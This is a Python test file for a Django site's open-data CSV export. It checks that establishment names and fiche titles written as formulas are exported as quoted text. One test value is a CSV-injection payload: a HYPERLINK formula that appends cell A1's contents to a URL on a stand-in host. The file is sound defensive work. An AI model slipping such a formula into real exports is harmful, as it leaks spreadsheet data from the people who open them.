"""The open data CSV files (/donnees/) are opened in a spreadsheet by the académies' analysts: a fiche title or an
establishment's name that an editor wrote as a formula is written as text there too, as in every other export
(docs/securite.md, « Exports pour tableur »)."""
import csv
import io

import pytest

from tests import factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Voir")'


def test_a_title_and_a_structure_written_as_formulas_are_text_in_the_open_data_csv(client,
                                                                                   django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        lomet = factories.establishment("@SUM(1+1)", "bordeaux", commune="Agen", bassin="+Agen", departement="47",
                                        latitude=44.2, longitude=-0.6)
        factories.fiche(FORMULA, lomet)
    response = client.get("/donnees/fiches.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    row = next(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    cells = list(row.values())
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], row
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert row["longitude"] == "-0.6", "a number stays a number"
